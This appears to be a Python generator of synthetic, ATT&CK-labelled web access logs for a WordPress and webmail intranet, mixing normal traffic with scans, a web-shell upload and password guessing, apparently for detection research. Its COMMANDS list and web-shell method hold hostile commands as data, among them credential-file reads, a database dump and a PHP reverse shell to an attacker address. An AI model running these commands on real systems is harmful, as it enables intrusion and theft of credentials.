"""The web server of a small company's intranet, with WordPress and webmail, in the manner of public testbeds of 2022.

Daily work: employees and customers who read, write posts and mail, WordPress' own jobs, monitoring, crawlers. Attacks: scans by nmap,
wpscan and dirb, an upload through a plugin's hole, commands through a web shell, a second shell that hides its parameters, guessed
passwords. It is not training material: it was written by a hand that did not know the training scenarios, to see what the model makes of
a site that nobody tuned it for, and what is learned from can no longer tell that.
"""
from __future__ import annotations

import base64
import json
from typing import Optional

from .people import CRAWLERS, browsers_until
from .site import Site, access_time, epoch

AGENTS = browsers_until(98)
START = epoch(2022, 1, 14)
DAYS = 5
INTRANET = "intranet.smith.russellmitchell.com"
WEBSITE = "www.russellmitchell.com"
MAIL = "mail.cup.com"
POSTS = ["2022/01/10/quarterly-figures-out-now", "2022/01/12/canteen-menu-week-3", "2021/12/20/office-closed-over-the-holidays",
         "2021/11/05/new-vpn-how-to-select-all-routes", "2022/01/13/update-of-the-it-policy",
         "2021/10/22/drop-in-session-database-union-meeting", "category/uncategorized", "author/admin",
         "2021/09/14/welcome-to-the-intranet", "contact", "about-us", "events", "sample-page", "hr/vacation-request", "it/helpdesk",
         "downloads"]
QUERIES = ["?p=41", "?p=7", "?s=select+printer", "?s=union+agreement+2021", "?s=how+to+drop+table+booking", "?s=admin+password+reset",
           "?s=script+for+phone+calls", "?page_id=2", "?cat=3", "?feed=rss2", "?s=o%27brien", "?m=202112"]
STATIC = ["/wp-content/themes/go/dist/css/style-shared.min.css?ver=1.5.2", "/wp-content/themes/go/dist/js/frontend.min.js?ver=1.5.2",
          "/wp-includes/js/jquery/jquery.min.js?ver=3.6.0", "/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.3.2",
          "/wp-includes/css/dist/block-library/style.min.css?ver=5.8.3", "/wp-includes/js/wp-emoji-release.min.js?ver=5.8.3",
          "/wp-content/uploads/2021/12/office-scaled.jpg", "/wp-content/uploads/2022/01/figures_q4.pdf", "/favicon.ico",
          "/wp-includes/js/wp-embed.min.js?ver=5.8.3", "/wp-content/plugins/coblocks/dist/style-coblocks-1.css?ver=2.21",
          "/wp-content/themes/go/dist/fonts/heebo-v5-latin-700.woff2", "/wp-includes/images/w-logo-blue-white-bg.png",
          "/apple-touch-icon.png"]
ADMIN = ["/wp-admin/", "/wp-admin/index.php", "/wp-admin/edit.php", "/wp-admin/post-new.php", "/wp-admin/upload.php",
         "/wp-admin/media-new.php", "/wp-admin/plugins.php", "/wp-admin/users.php", "/wp-admin/update-core.php",
         "/wp-admin/options-general.php", "/wp-admin/edit-comments.php",
         "/wp-admin/load-scripts.php?c=1&load%5Bchunk_0%5D=jquery-core,jquery-migrate,utils,wp-hooks,moxiejs,plupload&ver=5.8.3",
         "/wp-admin/load-styles.php?c=0&dir=ltr&load%5Bchunk_0%5D=dashicons,admin-bar,site-health,common,forms,admin-menu,dashboard,list-tables,edit&ver=5.8.3",
         "/wp-admin/post.php?post=41&action=edit", "/wp-admin/plugin-install.php?s=seo&tab=search&type=term",
         "/wp-json/wp/v2/posts/41?context=edit&_locale=user",
         "/wp-json/wp/v2/users/?who=authors&per_page=50&_fields=id%2Cname&_locale=user",
         "/wp-json/wp/v2/types?context=edit&_locale=user", "/wp-admin/customize.php?return=%2Fwp-admin%2Fthemes.php",
         "/wp-admin/site-health.php"]
HORDE = ["/login.php", "/services/portal/", "/services/ajax.php/imp/dynamicInit", "/services/ajax.php/imp/viewPort",
         "/services/ajax.php/imp/showMessage", "/services/ajax.php/imp/deleteMessages", "/services/ajax.php/imp/smartmobileFolderTree",
         "/services/ajax.php/imp/poll", "/imp/dynamic.php?page=mailbox", "/imp/compose.php?type=new&popup=1&uniq=%d",
         "/imp/dynamic.php?page=message&buid=%d&mailbox=SU5CT1g", "/turba/search.php", "/turba/minisearch.php?search=ann",
         "/kronolith/", "/services/ajax.php/kronolith/listEvents", "/nag/list.php", "/mnemo/", "/services/ajax.php/imp/checkSpell",
         "/services/cache.php?cid=horde:js:%s&app=horde", "/themes/default/graphics/favicon.ico", "/js/horde.js",
         "/services/prefs.php?app=imp&group=identities", "/imp/view.php?actionID=download_attach&id=2&muid=%%7B5%%7DINBOX%d",
         "/login.php?logout_reason=logout&horde_logout_token=%s"]
ATTACKER = "192.42.96.12"
NMAP = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
WPSCAN_PATHS = ["/", "/wp-login.php", "/xmlrpc.php", "/readme.html", "/wp-cron.php", "/wp-content/debug.log", "/wp-config.php~",
                "/wp-config.php.bak", "/.wp-config.php.swp", "/wp-config.old", "/wp-content/uploads/", "/wp-content/backup-db/",
                "/wp-content/plugins/akismet/readme.txt", "/wp-content/plugins/wpdiscuz/readme.txt",
                "/wp-content/plugins/coblocks/readme.txt", "/wp-content/plugins/contact-form-7/readme.txt",
                "/wp-content/plugins/wp-file-manager/readme.txt", "/wp-content/plugins/duplicator/readme.txt",
                "/wp-content/plugins/ninja-forms/readme.txt", "/wp-content/plugins/wordfence/readme.txt",
                "/wp-content/plugins/elementor/readme.txt", "/wp-content/themes/go/style.css",
                "/wp-content/themes/twentytwentyone/readme.txt", "/wp-content/mu-plugins/", "/?author=1", "/?author=2", "/?author=3",
                "/?author=4", "/wp-json/wp/v2/users/?per_page=100&page=1", "/?rest_route=/wp/v2/users/&per_page=100&page=1",
                "/author-sitemap.xml", "/emergency.php", "/searchreplacedb2.php", "/installer-log.txt", "/db.sql", "/backup.sql",
                "/database.sql", "/dump.sql", "/wordpress.sql", "/wp-content/uploads/dump.sql", "/wp-signup.php",
                "/wp-registration.php", "/robots.txt", "/feed/", "/comments/feed/", "/wp-links-opml.php", "/timthumb.php",
                "/wp-content/plugins/wpdiscuz/themes/default/style-rtl.css", "/wp-includes/rss-functions.php",
                "/fantastico_fileslist.txt"]
DIRB_PATHS = ("index .bash_history .cache .config .cvs .cvsignore .forward .git/HEAD .history .hta .htaccess .htpasswd "
              ".listing .mysql_history .passwd .perf .profile .rhosts .sh_history .ssh .subversion .svn .svn/entries .swf .web "
              "@ _ _adm _admin _ajax _archive _assets _backup _baks _borders _cache _catalogs _common _conf _config _css _data "
              "_database _db_backups _derived _dev _dummy _files _flash _fpclass _images _img _inc _include _install _js "
              "_layouts _lib _media _mem_bin _mm _mmserverscripts _mygallery _notes _old _overlay _pages _private _reports "
              "_res _resources _scriptlibrary _scripts _source _src _stats _styles _swf _temp _tempalbums _template _templates "
              "_test _themes _tmp _vti_aut _vti_bin _vti_bin/shtml.dll _vti_cnf _vti_log _vti_pvt _vti_rpc _www abc about "
              "academics access account admin admin.cgi admin.php administrator api archive backup backups bak beta bin blog "
              "cache cgi-bin/ config data db dev download etc files forum home images includes install internal js lib login "
              "logs mail old phpmyadmin private scripts secret server-status shop sql static stats test tmp tools upload "
              "uploads user users web webmail wp-admin wp-content wp-includes xmlrpc.php zip").split()
SCRIPT_AGENT = "python-requests/2.27.1"
SHELL = "/wp-content/uploads/2022/01/flzvxqkwhtmoe-1642431712.3894.php"
COMMANDS = ["id", "whoami", "uname%20-a", "cat%20/etc/passwd", "ls%20-laR%20/var/www", "ip%20addr", "netstat%20-tulpen", "ps%20aux",
            "cat%20/var/www/html/wp-config.php", "cat%20/etc/os-release", "ls%20/home", "which%20python3", "resolvectl%20status",
            "mysql%20-u%20wordpress%20-p%27x8Tq%27%20-e%20%27select%20*%20from%20wp_users%27%20wordpress_db", "dpkg%20-l", "df%20-h",
            "last", "find%20/%20-perm%20-4000",
            "php%20-r%20%27%24sock%3Dfsockopen%28%22192.42.96.12%22%2C9951%29%3Bexec%28%22%2Fbin%2Fsh%20-i%20%3C%263%20%3E%263%202%3E%263%22%29%3B%27"]


def in_base64(c):
    return base64.b64encode(json.dumps(c).encode()).decode().replace("=", "%3D")


class WebIntranet(Site):
    """Access log of an intranet's web server."""

    name = "web_intranet"
    host = "intranet-server"
    sourcetype = "access_combined"
    seed = 303

    def build(self) -> None:
        self.prepare()
        self.visitors()
        self.machines()
        self.crawlers()
        self.scans()
        self.web_shell()
        self.hidden_shell()
        self.guessed_passwords()

    def request(self, at: float, address: str, method: str, url: str, status, size, referrer: str = "-", agent: str = "-", name: str = "-",
                protocol: str = "HTTP/1.1", label: int = 0, group: Optional[str] = None, technique: Optional[str] = None,
                host: Optional[str] = None) -> None:
        """One line of the access log."""
        self.add(at, f"{address} - {name} [{access_time(at)}] \"{method} {url} {protocol}\" {status} "
                 f"{(181 if '.php' not in url else 3513) if status == 304 else size if size else '-'} \"{referrer}\" \"{agent}\"",
                 label, group, technique, host)

    def prepare(self) -> None:
        """Who and what is there."""
        self.employees = [(f"10.35.35.{i}", self.choice(["Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:95.0) Gecko/20100101 Firefox/95.0",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 Safari/537.36",
            "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:96.0) Gecko/20100101 Firefox/96.0"])) for i in range(201, 217)]
        self.customers = [(self.address("192.168.231"), self.choice(AGENTS)) for _ in range(8)] + [(f"172.19.130.{i}",
            self.choice(AGENTS)) for i in (4, 19, 33, 80)]

    def visitors(self) -> None:
        """Employees and customers read, write and send mail."""
        for _ in range(130):
            at = self.moment(START, DAYS)
            address, agent = self.choice(self.employees + self.customers)
            dice = self.rng.random()
            if dice < 0.45:
                path = "/" + self.choice(POSTS) + "/" if self.rng.random() < 0.7 else "/" + self.choice(QUERIES)
                referrer = "-"
                for _ in range(self.rng.randint(1, 4)):
                    status = self.weighted([(200, 90), (301, 6), (304, 2), (404, 2)])
                    self.request(at, address, "GET", path, status, self.rng.randint(5000, 32000) if status == 200
                                 else self.rng.randint(240, 600), referrer, agent)
                    pr = f"http://{INTRANET}{path}"
                    for s_ in self.rng.sample(STATIC, self.rng.randint(0, 4)):
                        at += self.rng.random() * 0.4
                        self.request(at, address, "GET", s_, self.weighted([(200, 6), (304, 4)]) if s_ not in ("/favicon.ico",
                            "/apple-touch-icon.png") else self.choice([404, 200, 302]), self.rng.randint(300, 90000), pr, agent)
                    referrer = pr
                    path = "/" + self.choice(POSTS) + "/" if self.rng.random() < 0.8 else "/" + self.choice(QUERIES)
                    at += self.rng.uniform(4, 90)
            elif dice < 0.62:
                self.request(at, address, "GET", "/wp-login.php", 200, self.rng.randint(5300, 5600), "-", agent)
                for _ in range(self.weighted([(1, 8), (2, 3), (3, 1)]) - 1):
                    at += 9
                    self.request(at, address, "POST", "/wp-login.php", 200, 5817, f"http://{INTRANET}/wp-login.php", agent)
                at += 8
                self.request(at, address, "POST", "/wp-login.php", 302, 1140,
                             f"http://{INTRANET}/wp-login.php?redirect_to=http%3A%2F%2F{INTRANET}%2Fwp-admin%2F&reauth=1", agent)
                referrer = f"http://{INTRANET}/wp-admin/"
                for _ in range(self.rng.randint(2, 8)):
                    at += self.rng.uniform(1, 60)
                    a = self.choice(ADMIN)
                    self.request(at, address, "GET", a, 200, self.rng.randint(900, 60000), referrer, agent)
                    if self.rng.random() < 0.6:
                        at += 15
                        self.request(at, address, "POST", "/wp-admin/admin-ajax.php", 200, self.rng.randint(50, 700),
                                     f"http://{INTRANET}{a}", agent)
            else:
                referrer = f"http://{MAIL}/imp/dynamic.php?page=mailbox"
                for _ in range(self.rng.randint(2, 9)):
                    path = self.choice(HORDE)
                    if "%d" in path:
                        path = path % self.rng.randint(10000, 99999999)
                    elif "%s" in path:
                        path = path % self.hex(40) if "cid" in path else path % self.token(23)
                    path = path.replace("%%", "%")
                    self.request(at, address, "POST" if "ajax" in path or (path == "/login.php" and self.rng.random() < 0.5) else "GET",
                                 path, self.weighted([(200, 93), (302, 5), (304, 2)]), self.rng.randint(280, 21000),
                                 referrer if path != "/login.php" else "-", agent, host="mail")
                    at += self.rng.expovariate(1 / 20)

    def machines(self) -> None:
        """WordPress' own jobs, monitoring and the server itself."""
        for _ in range(150):
            at = self.moment(START, DAYS, [1] * 24)
            dice = self.rng.randrange(6)
            if dice < 2:
                self.request(at, "127.0.0.1", "POST", f"/wp-cron.php?doing_wp_cron={int(at)}.{self.rng.randrange(10 ** 20):020}", 200,
                             257, f"http://{INTRANET}/wp-cron.php?doing_wp_cron={int(at)}.{self.rng.randrange(10 ** 10)}",
                             f"WordPress/5.8.3; http://{INTRANET}")
            elif dice == 2:
                self.request(at, "::1", "OPTIONS", "*", 200, 126, "-",
                             "Apache/2.4.41 (Ubuntu) OpenSSL/1.1.1f (internal dummy connection)", protocol="HTTP/1.0")
            elif dice == 3:
                self.request(at, "172.19.131.174", "GET", "/server-status?auto", 200, self.rng.randint(900, 1200), "-",
                             "check_http/v2.3.1 (monitoring-plugins 2.3.1)")
            elif dice == 4:
                self.request(at, "172.19.131.174", "HEAD", "/", 200, 0, "-", "check_http/v2.3.1 (monitoring-plugins 2.3.1)")
            else:
                self.request(at, "10.35.35.206", "GET", "/download/"
                             + self.choice(["hr_handbook.pdf", "vpn-setup.sh", "backup_2021.tar.gz", "printer-drivers.zip",
                                            "expense form.xls".replace(" ", "%20")]), self.choice([200, 200, 206, 404]),
                             self.rng.randint(2000, 4000000), f"http://{INTRANET}/downloads/",
                             "Wget/1.20.3 (linux-gnu)" if self.rng.random() < 0.4 else self.employees[5][1])

    def crawlers(self) -> None:
        """Crawlers."""
        for _ in range(110):
            at = self.moment(START, DAYS, [1] * 24)
            b = self.choice(CRAWLERS[:10])
            self.request(at, self.address(), "GET", self.choice(["/robots.txt", "/", "/sitemap.xml", "/wp-sitemap.xml", "/feed/",
                "/wp-sitemap-posts-post-1.xml"] + ["/" + path + "/" for path in POSTS]), self.weighted([(200, 8), (301, 1), (404, 1)]),
                         self.rng.randint(200, 25000), "-", b)

    def scans(self) -> None:
        """nmap, wpscan and dirb."""
        self.at = START + 3 * 86400 + 11 * 3600 + 1500
        for method, path, status in [("GET", f"/nmaplowercheck{int(self.at)}", 404), ("GET", "/HNAP1", 404),
                                     ("GET", "/robots.txt", 200), ("POST", "/sdk", 404), ("GET", "/evox/about", 404),
                                     ("GET", "/.git/HEAD", 404), ("OPTIONS", "/", 200), ("OPTIONS", "/", 200), ("PROPFIND", "/", 405),
                                     ("GET", "/", 200), ("GET", "/favicon.ico", 302), ("NXHE", "/", 501), ("GET", "/", 200)]:
            self.at += self.rng.random() * 0.3
            self.request(self.at, ATTACKER, method, path, status, self.rng.randint(180, 500), "-", NMAP, label=1, group="nmap_http",
                         technique="T1595.002")
        for raw in [r"\x16\x03", "GET / HTTP/1.0", ""]:
            self.at += 1
            self.add(self.at, f"{ATTACKER} - - [{access_time(self.at)}] \"{raw}\" {400 if raw != 'GET / HTTP/1.0' else 200} "
                     f"{self.rng.randint(0, 483)} \"-\" \"-\"", 1, "nmap_http", "T1595.002")
        self.at += 300
        for path in WPSCAN_PATHS:
            self.at += self.rng.random() * 0.2
            self.request(self.at, ATTACKER, "HEAD" if "plugins" in path and self.rng.random() < 0.3 else "GET", path,
                         self.weighted([(404, 7), (200, 2), (403, 1)]), self.rng.randint(0, 10000), f"http://{WEBSITE}/",
                         "WPScan v3.8.20 (https://wpscan.com/wordpress-security-scanner)", label=1, group="wpscan",
                         technique="T1595.002")
        self.at += 400
        for path in DIRB_PATHS:
            self.at += self.rng.random() * 0.05
            self.request(self.at, ATTACKER, "GET", "/" + path, self.weighted([(404, 12), (301, 1), (403, 1), (200, 1)]),
                         self.rng.randint(274, 500), "-", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", label=1, group="dirb",
                         technique="T1595.003")

    def web_shell(self) -> None:
        """An upload through a plugin's hole, and commands through what was uploaded."""
        self.at += 900
        for method, path, status in [("GET", "/2021/09/14/welcome-to-the-intranet/", 200), ("POST", "/wp-admin/admin-ajax.php", 200),
                                     ("GET", "/2021/09/14/welcome-to-the-intranet/", 200), ("POST", "/wp-admin/admin-ajax.php", 200)]:
            self.at += 2
            self.request(self.at, ATTACKER, method, path, status, self.rng.randint(900, 14000), "-", SCRIPT_AGENT, label=1,
                         group="wpdiscuz_upload", technique="T1190")
        for c in COMMANDS:
            self.at += self.rng.expovariate(1 / 18)
            self.request(self.at, ATTACKER, "GET", SHELL + "?cmd=" + c, 200, self.rng.randint(170, 6000), "-", SCRIPT_AGENT, label=1,
                         group="webshell_cmd", technique="T1505.003")
        for c in [["id"], ["ls", "-la"], ["cat", "/etc/shadow"], ["wget", "http://192.42.96.12/lp.sh"], ["cat", "/etc/group"], ["w"],
                  ["crontab", "-l"]]:
            self.at += self.rng.expovariate(1 / 30)
            self.request(self.at, ATTACKER, "GET", SHELL + "?wp_meta=" + in_base64(c), 200, self.rng.randint(160, 3000), "-",
                         "python-requests/2.27.1", label=1, group="webshell_wp_meta", technique="T1505.003")

    def hidden_shell(self) -> None:
        """A second shell, which says nothing in its address."""
        self.at += 4000
        for c in range(28):
            self.at += self.rng.expovariate(1 / 200)
            self.request(self.at, "10.35.35.118" if c > 15 else "192.42.96.44", "POST", "/wp-content/uploads/2022/01/cache-min.php",
                         200, self.rng.randint(160, 2500), "-",
                         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/97.0.4692.71 Safari/537.36",
                         label=1, group="webshell_post", technique="T1505.003")

    def guessed_passwords(self) -> None:
        """The administrator's password is guessed."""
        at = START + 4 * 86400 + 2 * 3600
        for i in range(60):
            at += self.rng.random() * 1.5
            self.request(at, "192.42.96.12", "POST", "/wp-login.php", 200 if i < 59 else 302, self.choice([5817, 5824]) if i < 59
                         else 1140, f"http://{INTRANET}/wp-login.php", "Mozilla/5.0 (Hydra)", label=1, group="wp_bruteforce",
                         technique="T1110.001")
